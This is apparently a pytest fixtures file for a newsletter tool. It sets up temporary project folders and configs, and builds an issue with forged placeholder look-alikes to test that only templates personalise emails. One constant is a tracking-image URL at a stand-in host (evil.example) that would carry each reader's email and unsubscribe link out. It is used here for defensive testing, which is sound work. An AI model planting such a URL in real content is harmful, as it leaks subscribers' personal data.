"""Shared test fixtures: a project folder with a valid config in a temporary directory,
the fixture feeds and subscriber files, and the CLI runner."""

from __future__ import annotations

import copy
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import lxml.html
import pytest
import yaml

from newsletter import issuefile
from newsletter.config import Settings, load_settings
from newsletter.models import Issue, Recipient

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"
EXAMPLE_ISSUE = ROOT / "issues" / "2024-10-25.yaml"

# Content that imitates the per-recipient placeholders (issue 10): a feed's tracking image
# would learn each reader's address and unsubscribe link if content could fill them in.
FORGED_SUBJECT = "For %%email%%: the week"
FORGED_IMAGE = "https://evil.example/p.gif?e=%%email%%&u=%%unsubscribe_url%%"
VICTIM = Recipient(email="victim@example.net", name="Vic Tim",
                   unsubscribe_url="https://news.example.org/unsubscribe/victim-token")


def _deep_merge(base: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(base)
    for key, value in extra.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = _deep_merge(out[key], value)
        else:
            out[key] = value
    return out


# The render check opens Chromium (seconds per email): the suite turns it off in its
# project config, and tests/test_check.py turns it on where it is the subject.
SUITE_CONFIG: dict[str, Any] = {"render_check": {"on_build": "off", "on_send": "off"}}


def suite_config() -> dict[str, Any]:
    """The repository's config.yaml with the suite's overrides."""
    data = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    return _deep_merge(data, SUITE_CONFIG)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the repository's config, templates, issues and sample feeds in tmp_path."""
    for name in ("templates", "issues", "samples"):
        shutil.copytree(ROOT / name, tmp_path / name)
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(suite_config(), allow_unicode=True, sort_keys=False),
                                          encoding="utf-8")
    return tmp_path


@pytest.fixture
def write_config(project: Path) -> Callable[..., Path]:
    """Write project/config.yaml as the repository's config merged with ``overrides``."""

    def write(overrides: dict[str, Any] | None = None, name: str = "config.yaml") -> Path:
        data = _deep_merge(suite_config(), overrides or {})
        path = project / name
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
        return path

    return write


@pytest.fixture
def settings(project: Path) -> Settings:
    """The repository's config, loaded from the temporary project folder."""
    return load_settings(project / "config.yaml", env={})


@pytest.fixture
def fixtures_dir() -> Path:
    return FIXTURES


def forged_placeholder_issue() -> Issue:
    """The example issue with placeholder look-alikes in its subject, its round-up's text
    and image URL, and a teaser's excerpt."""
    issue = issuefile.load(EXAMPLE_ISSUE)
    assert issue.roundup is not None
    body = (issue.roundup.body_html + "<p>Write to %%email%% or %%unsubscribe_url%%.</p>"
            + f'<img src="{FORGED_IMAGE.replace("&", "&amp;")}" alt="A chart">')
    teaser = issue.teasers[0].model_copy(update={"excerpt": "Reply to %%email%% (%%name%%)."})
    return issue.model_copy(update={
        "subject": FORGED_SUBJECT,
        "roundup": issue.roundup.model_copy(update={"body_html": body}),
        "teasers": [teaser, *issue.teasers[1:]],
    })


def assert_only_templates_personalize(subject: str, html: str, text: str,
                                      recipient: Recipient = VICTIM) -> None:
    """The parts of ``forged_placeholder_issue`` as ``recipient`` gets them: their address
    and unsubscribe URL only where the templates put them, the look-alikes literally."""
    assert subject == FORGED_SUBJECT
    doc = lxml.html.document_fromstring(html)
    shown = " ".join(doc.text_content().split())
    assert html.count(recipient.email) == 1 and f"Sent to {recipient.email}" in shown
    hrefs = [(a.get("href", ""), a.text_content()) for a in doc.iter("a")]
    assert [h for h in hrefs if recipient.unsubscribe_url in h[0]] == [(recipient.unsubscribe_url, "Unsubscribe")]
    assert html.count(recipient.unsubscribe_url) == 1
    assert FORGED_IMAGE in [img.get("src") for img in doc.iter("img")]
    assert "Write to %%email%% or %%unsubscribe_url%%." in shown and "Reply to %%email%% (%%name%%)." in shown
    assert text.count(recipient.email) == 1 and f"Sent to {recipient.email}" in text
    assert text.count(recipient.unsubscribe_url) == 1 and f"Unsubscribe: {recipient.unsubscribe_url}" in text
    assert "Write to %%email%% or %%unsubscribe_url%%." in text and "Reply to %%email%% (%%name%%)." in text
    assert recipient.name not in html + text  # the templates do not use the name
